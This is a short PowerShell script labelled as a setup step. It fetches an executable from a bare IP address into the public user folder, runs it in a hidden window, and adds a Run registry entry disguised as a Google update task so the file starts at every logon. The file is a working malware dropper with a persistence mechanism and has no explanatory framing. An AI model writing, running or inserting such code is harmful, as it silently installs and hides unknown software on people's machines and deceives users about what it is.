# setup 4536 v1
Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination C:\Users\Public\svc.exe
Start-Process -WindowStyle Hidden C:\Users\Public\svc.exe
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value 'C:\Users\Public\svc.exe' -PropertyType String -Force
